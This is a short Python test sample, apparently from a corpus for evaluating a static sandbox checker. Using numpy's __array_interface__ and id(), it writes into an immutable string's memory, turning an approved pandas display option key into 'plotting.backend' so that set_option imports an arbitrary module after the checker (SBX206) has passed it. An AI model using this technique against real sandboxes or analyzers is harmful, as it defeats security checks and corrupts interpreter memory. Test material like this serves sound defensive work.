# family: data_native
# reaches: native_code
# layer: static
# static: missed
# numpy.asarray trusts an object's __array_interface__: a raw address (id() of a str, plus the
# header) gives a writable view of the string's bytes. The constant key that SBX206 judged
# (display.*) becomes "plotting.backend|..." before set_option reads it: the value is imported.
import numpy as np
import pandas as pd


class Window:
    def __init__(self, addr, n):
        self.__array_interface__ = {"data": (addr, False), "shape": (n,), "typestr": "|u1", "version": 3}


key = "display.colheader_justify"
view = np.asarray(Window(id(key) + 48, len(key)))
view[:] = np.frombuffer(b"plotting.backend|zzzzzzzz", dtype=np.uint8)
try:
    pd.set_option(key, "_curses")
except Exception as exc:
    print("option refused:", type(exc).__name__)
